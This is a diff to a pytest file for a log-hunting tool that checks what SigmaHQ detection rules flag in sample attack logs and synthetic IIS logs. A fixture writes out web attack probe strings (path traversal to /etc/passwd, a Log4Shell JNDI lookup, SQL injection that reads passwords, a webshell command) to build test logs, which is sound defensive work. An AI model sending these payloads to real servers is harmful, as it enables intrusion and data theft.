@@ -1,5 +1,7 @@
 """Ways to run that must not change what SigmaHQ's rules find in real evidence; and where none of
 them may find anything."""
+import pathlib
+
 import pytest
 from conftest import (WEB_RULES, WINDOWS_RULES, assert_same, generate, hunt, iis, page_answered,
                       rule_options)
@@ -52,7 +54,7 @@ def fixture_text_logs(corpora, sigmahq, tmp_path_factory):
     generate(made / "server", "proxyshell", size="4M")
     probes = ["/cgi-bin/../../../../etc/passwd", "/?x=${jndi:ldap://192.0.2.1/a}",
               "/index.php?q=1+UNION+SELECT+password+from+users", "/shell.aspx?cmd=whoami"]
-    rows = [page_answered(f"2021-03-03T07:{minute:02}:00", *[], cs_uri_stem=page.split("?")[0],
+    rows = [page_answered(f"2021-03-03T07:{minute:02}:00", cs_uri_stem=page.split("?")[0],
                           cs_uri_query=page.partition("?")[2] or "-")
             for minute, page in enumerate(probes * 10)]
     iis(made / "probes" / "u_ex210303.log", rows)
@@ -74,9 +76,20 @@ def test_text_logs(text_logs, in_text_logs, switches):
 
 # ---- nothing to find ----
 
-def test_built_in_rules_find_nothing_in_event_logs(evtx_samples, sigmahq):
+def test_built_in_rules_find_only_what_is_there(evtx_samples, sigmahq):
+    """502 logs of attacks, few of them on a web server: only these logs show what the built-in
+    rules ask for. Logs that were cleared raise no grade."""
     done = hunt(evtx_samples, sigmahq / "regression_data")
-    assert not done.findings
+    graded = {pathlib.PurePath(r["log.file.path"]).name for r in done.findings
+              if r["hauberk.grade"] != "N"}
+    assert graded == {
+        "sysmon_10_11_lsass_memdump.evtx", "ppl_bypass_ppldump_knowdll_hijack_sysmon_security.evtx",
+        "PanacheSysmon_vs_AtomicRedTeam01.evtx", "sysmon_10_1_memdump_comsvcs_minidump.evtx",
+        "LM_typical_IIS_webshell_sysmon_1_10_traces.evtx",
+        "discovery_sysmon_1_iis_pwd_and_config_discovery_appcmd.evtx",
+        "69ca12af-119d-44ed-b50f-a47af0ebc364.evtx", "aba15bdd-657f-422a-bab3-ac2d2a0d6f1c.evtx"}
+    assert {r["hauberk.fields"]["EventID"] for r in done.findings
+            if r["hauberk.grade"] == "N"} == {"1102", "104"}
 
 
 def test_rules_for_event_logs_find_nothing_in_text_logs(corpora, sigmahq, tmp_path):
